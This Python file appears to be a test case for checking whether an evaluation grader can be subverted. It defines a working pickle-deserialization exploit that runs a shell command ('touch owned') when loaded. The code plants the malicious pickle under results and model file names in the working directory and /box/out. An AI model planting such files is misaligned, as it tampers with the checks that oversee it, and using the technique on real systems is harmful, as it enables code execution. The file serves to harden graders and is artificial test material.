"""
attacks = "Leave pickles where a grader might load results."
promise = "grade"
observed = "same"
control = "naive"
naive = "__import__('pickle').load(open('results.pkl', 'rb')) == 0 and os.path.exists('owned')"
"""
import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch owned",)


for place in (".", "/box/out"):
    for name in ("results.pkl", "evidence.pkl", ".OTTER_LOG", "model.pkl", "history.npy"):
        try:
            with open(f"{place}/{name}", "wb") as file:
                pickle.dump(Evil(), file)
        except OSError:
            pass
